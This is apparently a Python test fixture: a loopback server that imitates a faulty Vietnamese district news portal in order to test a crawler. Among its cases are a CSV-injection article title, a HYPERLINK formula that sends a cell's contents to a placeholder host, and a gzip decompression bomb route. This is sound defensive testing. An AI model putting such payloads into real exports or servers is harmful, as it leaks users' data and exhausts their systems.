"""A portal that misbehaves in every way district portals do, on loopback.

Each case is an article-shaped URL (NukeViet style) linked from the home
page; `CASES` says what the crawler must make of it. Used by
tests/test_faults.py.
"""

from __future__ import annotations

import gzip
import socket
import threading
import time
import unicodedata
from collections import Counter
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from tests.vietnamese_bytes import to_cp1258

BODY = ("Trong 9 tháng đầu năm, Bộ phận một cửa huyện đã tiếp nhận 2.146 hồ sơ, giải quyết đúng hạn "
        "2.101 hồ sơ. Ủy ban nhân dân huyện yêu cầu các phòng, ban tiếp tục đẩy mạnh cải cách hành "
        "chính, nâng cao chất lượng phục vụ người dân và doanh nghiệp trên địa bàn.")


def article(title: str, body: str = BODY, charset: str = "utf-8", extra: str = "") -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    return (f"<!DOCTYPE html><html><head>{meta}<title>{title}</title></head><body>"
            "<div class='menu'><a href='/'>Trang nhất</a> <a href='/tin-tuc'>Tin tức</a></div>"
            f"<div class='news_column'><h1 class='title'>{title}</h1>"
            "<span class='h5'>Thứ năm - 14/03/2024 09:15</span>"
            f"<div id='news-bodyhtml' class='bodytext'><p>{title}. {body}</p>{extra}</div></div>"
            "<div class='footer'>UBND huyện Thử Nghiệm</div></body></html>")


# path -> (what the crawler must do: "emit" or the error/skip kind it counts)
CASES = {
    "/tin-tuc/binh-thuong-1001.html": "emit",
    "/tin-tuc/windows-1258-khai-bao-1002.html": "emit",
    "/tin-tuc/windows-1258-khong-khai-bao-1003.html": "emit",
    "/tin-tuc/van-ban-nfd-1004.html": "emit",
    "/tin-tuc/html-hong-1005.html": "emit",
    "/tin-tuc/loi-503-roi-duoc-1006.html": "emit",
    "/tin-tuc/may-chu-cham-1007.html": "emit",
    "/tin-tuc/tieu-de-cong-thuc-1008.html": "emit",
    "/tin-tuc/trong-rong-1010.html": "empty",
    "/tin-tuc/khong-co-noi-dung-1011.html": "too_little_text",
    "/tin-tuc/mojibake-1012.html": "bad_encoding",
    "/tin-tuc/file-pdf-1013.html": "not_html",
    "/tin-tuc/pdf-gia-html-1014.html": "not_html",
    "/tin-tuc/docx-gia-html-1015.html": "not_html",
    "/tin-tuc/anh-1016.html": "not_html",
    "/tin-tuc/trang-rat-lon-1017.html": "too_large",
    "/tin-tuc/bom-nen-1018.html": "too_large",
    "/tin-tuc/loi-404-1019.html": "http_404",
    "/tin-tuc/loi-500-1020.html": "http_500",
    "/tin-tuc/qua-thoi-gian-1021.html": "DownloadTimeoutError",
    "/tin-tuc/ngat-ket-noi-1022.html": "DownloadFailedError",
    "/tin-tuc/vong-lap-chuyen-huong-1023.html": "redirect_loop",
    "/tin-tuc/chuyen-huong-ra-ngoai-1024.html": "offsite",
    "/tin-tuc/the-base-hong-1025.html": "emit",
}
# A title a spreadsheet would run as a formula (CSV injection), sending a cell away.
FORMULA_TITLE = '=HYPERLINK("http://thu-nghiem.invalid/?d="&B2,"Xem chi tiết")'
# Links no URL parser takes: a port out of range, an unclosed IPv6 host. Served
# at /tin-tuc/lien-ket-hong-1009.html, not linked from the home page
# (tests/test_edge_cases.py crawls it alone).
BROKEN_LINKS = ("<p>Xem <a href='http://127.0.0.1:99999/tin-tuc/a-1.html'>chi tiết</a>, "
                "<a href='http://[::1:8/tin-tuc/b-2.html'>tại đây</a> và "
                "<a href='https://[bad host]/c-3.html'>đây</a>.</p>")
# Links that are the same article as binh-thuong-1001 under other URLs.
ALIASES = ["/tin-tuc/binh-thuong-1001.html?utm_source=zalo&utm_medium=share",
           "/tin-tuc/binh-thuong-1001.html;jsessionid=8F2A0C1B",
           "/tin-tuc/binh-thuong-1001.html?fbclid=IwAR0abc"]
TRAPS = ["/lich-cong-tac?month=2024-01", "/tin-tuc/page-1"]
MAX_BODY = 256 * 1024  # the DOWNLOAD_MAXSIZE the test sets


class FaultyPortal:
    """One misbehaving portal (and a neighbour host to redirect off to)."""

    def __init__(self, robots: str = "ok"):
        self.robots = robots  # ok | missing | broken | forbid_all | offsite (a redirect to the neighbour)
        #                      | slow (Crawl-delay: 3600)
        self.hits: Counter[str] = Counter()
        self.times: list[tuple[float, str]] = []  # (time.monotonic(), path) of every request
        self.neighbour_hits = 0
        self._servers: list[ThreadingHTTPServer] = []

    def start(self) -> "FaultyPortal":
        neighbour = self._serve(self._neighbour_handler())
        self.neighbour_url = f"http://127.0.0.1:{neighbour.server_address[1]}"
        server = self._serve(self._handler())
        self.base_url = f"http://127.0.0.1:{server.server_address[1]}"
        return self

    def stop(self) -> None:
        for server in self._servers:
            server.shutdown()
            server.server_close()

    def __enter__(self):
        return self.start()

    def __exit__(self, *exc):
        self.stop()

    def _serve(self, handler) -> ThreadingHTTPServer:
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        server.daemon_threads = True
        server.handle_error = lambda *args: None  # resets and timeouts are the point here
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.1}, daemon=True).start()
        self._servers.append(server)
        return server

    def _neighbour_handler(self):
        portal = self

        class Neighbour(BaseHTTPRequestHandler):
            def do_GET(self):
                portal.neighbour_hits += 1
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(article("Trang của tỉnh").encode())

            def log_message(self, *args):
                pass

        return Neighbour

    def _handler(self):
        portal = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def send(self, status: int, body: bytes, content_type: str = "text/html; charset=utf-8",
                     headers: dict | None = None) -> None:
                self.send_response(status)
                self.send_header("Content-Type", content_type)
                for name, value in (headers or {}).items():
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_GET(self):
                path = self.path
                portal.hits[path] += 1
                portal.times.append((time.monotonic(), path))
                route = ROUTES.get(path.split("?")[0].split(";")[0])
                if path == "/robots.txt":
                    return self.robots()
                if path.startswith("/lich-cong-tac"):
                    month = int(path.rsplit("-", 1)[-1]) + 1
                    return self.send(200, f"<a href='/lich-cong-tac?month=2024-{month:02d}'>Tháng sau</a>".encode())
                if path.startswith("/tin-tuc/page-"):
                    n = int(path.rsplit("-", 1)[-1]) + 1
                    return self.send(200, (f"<h2>Tin tức</h2><a href='/tin-tuc/page-{n}'>Trang sau</a>"
                                           ).encode())
                if route is None:
                    return self.send(404, b"<h1>Kh\xc3\xb4ng t\xc3\xacm th\xe1\xba\xa5y trang</h1>")
                route(self, portal)

            def robots(self):
                if portal.robots == "missing":
                    return self.send(404, b"not found")
                if portal.robots == "offsite":
                    return self.send(301, b"", headers={"Location": portal.neighbour_url + "/robots.txt"})
                if portal.robots == "broken":
                    return self.send(200, b"\x00\xffUser-agent *\nDisallow /admin\n<html>", "text/plain")
                rules = "User-agent: *\nDisallow: /\n" if portal.robots == "forbid_all" else \
                    "User-agent: *\nDisallow: /quan-tri/\n"
                if portal.robots == "slow":
                    rules += "Crawl-delay: 3600\n"
                return self.send(200, rules.encode(), "text/plain; charset=utf-8")

        return Handler


def _home(handler, portal):
    links = [*CASES, *ALIASES, *TRAPS]
    items = "".join(f"<li><a href='{link}'>Tin {i}</a></li>" for i, link in enumerate(links))
    handler.send(200, f"<html><body><h2>Tin mới</h2><ul>{items}</ul></body></html>".encode())


def _normal(title):
    return lambda h, p: h.send(200, article(title).encode("utf-8"))


def _cp1258(declared: bool):
    def route(handler, portal):
        title = "Cải cách hành chính ở xã " + ("Đức Lĩnh" if declared else "Ân Phú")
        html = article(title, charset="windows-1258" if declared else "")
        handler.send(200, to_cp1258(html), "text/html" + ("; charset=windows-1258" if declared else ""))
    return route


def _nfd(handler, portal):
    handler.send(200, unicodedata.normalize("NFD", article("Hội nghị giao ban quý III")).encode("utf-8"))


def _broken_html(handler, portal):
    html = article("Tổng kết công tác năm").replace("</p>", "").replace("</div></div>", "")
    handler.send(200, html[: len(html) - 60].encode("utf-8"))  # cut mid-tag, no </html>


def _flaky(handler, portal):
    if portal.hits[handler.path] <= 2:
        return handler.send(503, b"Service Unavailable", headers={"Retry-After": "1"})
    handler.send(200, article("Hồ sơ trực tuyến tăng mạnh").encode("utf-8"))


def _slow(handler, portal):
    time.sleep(1.5)
    handler.send(200, article("Tiếp công dân định kỳ").encode("utf-8"))


def _mojibake(handler, portal):
    garbled = (article("Kết quả CCHC") * 3).encode("utf-8").decode("cp1252", errors="replace")
    handler.send(200, garbled.encode("utf-8"))


def _huge(handler, portal):
    filler = ("<p>" + "Nội dung lặp lại rất dài của trang. " * 40 + "</p>") * 400
    handler.send(200, article("Trang rất lớn", extra=filler).encode("utf-8"))


def _bomb(handler, portal):
    payload = gzip.compress(b" " * (64 * 1024 * 1024), compresslevel=9)  # 64 MB of spaces, ~64 KB sent
    handler.send(200, payload, headers={"Content-Encoding": "gzip"})


def _timeout(handler, portal):
    time.sleep(6)


def _reset(handler, portal):
    handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
    handler.connection.close()


def _loop(handler, portal):
    # A new URL every time, as session-stamping portals do: only the redirect limit stops it.
    step = sum(n for path, n in portal.hits.items() if path.startswith("/tin-tuc/vong-lap"))
    handler.send(302, b"", headers={"Location": f"/tin-tuc/vong-lap-chuyen-huong-1023.html?lan={step}"})


def _offsite(handler, portal):
    handler.send(301, b"", headers={"Location": portal.neighbour_url + "/tin-tuc/bai-cua-tinh-2001.html"})


ROUTES = {
    "/": _home,
    "/tin-tuc/binh-thuong-1001.html": _normal("Kết quả giải quyết hồ sơ 9 tháng"),
    "/tin-tuc/windows-1258-khai-bao-1002.html": _cp1258(declared=True),
    "/tin-tuc/windows-1258-khong-khai-bao-1003.html": _cp1258(declared=False),
    "/tin-tuc/van-ban-nfd-1004.html": _nfd,
    "/tin-tuc/html-hong-1005.html": _broken_html,
    "/tin-tuc/loi-503-roi-duoc-1006.html": _flaky,
    "/tin-tuc/may-chu-cham-1007.html": _slow,
    "/tin-tuc/tieu-de-cong-thuc-1008.html": _normal(FORMULA_TITLE),
    "/tin-tuc/lien-ket-hong-1009.html": lambda h, p: h.send(200, article(
        "Công khai kết quả giải quyết hồ sơ", extra=BROKEN_LINKS).encode("utf-8")),
    "/tin-tuc/trong-rong-1010.html": lambda h, p: h.send(200, b""),
    "/tin-tuc/khong-co-noi-dung-1011.html": lambda h, p: h.send(
        200, article("Ảnh hoạt động", body="Ảnh: Minh Anh").encode("utf-8")),
    "/tin-tuc/mojibake-1012.html": _mojibake,
    "/tin-tuc/file-pdf-1013.html": lambda h, p: h.send(200, b"%PDF-1.4\n1 0 obj<<>>endobj\n", "application/pdf"),
    "/tin-tuc/pdf-gia-html-1014.html": lambda h, p: h.send(200, b"%PDF-1.4\n1 0 obj<<>>endobj\n"),
    "/tin-tuc/docx-gia-html-1015.html": lambda h, p: h.send(200, b"PK\x03\x04\x14\x00\x06\x00word/document.xml"),
    "/tin-tuc/anh-1016.html": lambda h, p: h.send(200, b"\xff\xd8\xff\xe0\x00\x10JFIF", "image/jpeg"),
    "/tin-tuc/trang-rat-lon-1017.html": _huge,
    "/tin-tuc/bom-nen-1018.html": _bomb,
    "/tin-tuc/loi-404-1019.html": lambda h, p: h.send(404, b"<h1>404</h1>"),
    "/tin-tuc/loi-500-1020.html": lambda h, p: h.send(500, b"<h1>Server Error</h1>"),
    "/tin-tuc/qua-thoi-gian-1021.html": _timeout,
    "/tin-tuc/ngat-ket-noi-1022.html": _reset,
    "/tin-tuc/vong-lap-chuyen-huong-1023.html": _loop,
    "/tin-tuc/chuyen-huong-ra-ngoai-1024.html": _offsite,
    # A <base href> no URL parser takes: Scrapy's meta-refresh check raised on it.
    "/tin-tuc/the-base-hong-1025.html": lambda h, p: h.send(200, article("Một cửa liên thông quý II").replace(
        "</head>", "<base href='http://[::1/'></head>").encode("utf-8")),
}
